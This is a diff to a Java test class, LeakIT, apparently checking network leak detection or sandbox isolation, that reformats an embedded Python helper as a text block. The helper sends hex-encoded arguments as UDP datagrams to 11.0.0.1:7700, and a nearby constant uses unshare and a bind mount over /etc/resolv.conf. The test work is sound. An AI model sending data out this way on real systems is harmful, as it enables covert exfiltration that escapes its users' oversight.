@@ -46,10 +46,12 @@ class LeakIT {
     private static final String LOOKUP = "udp 11.0.0.1:53 foreign";
 
     /** Sends each of its arguments, hex digits, as a datagram; stays, so that all of them are seen. */
-    private static final String SPEAKER = "import socket, sys, time\n"
-            + "speaker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            + "for each in sys.argv[1:]: speaker.sendto(bytes.fromhex(each), ('11.0.0.1', 7700))\n"
-            + "time.sleep(600)\n";
+    private static final String SPEAKER = """
+            import socket, sys, time
+            speaker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            for each in sys.argv[1:]: speaker.sendto(bytes.fromhex(each), ("11.0.0.1", 7700))
+            time.sleep(600)
+            """;
 
     private static final String OWN_NAMES = "unshare -nm mount --bind /etc/resolv.conf /etc/resolv.conf";
     private static final Duration LIMIT = Duration.ofMinutes(4);
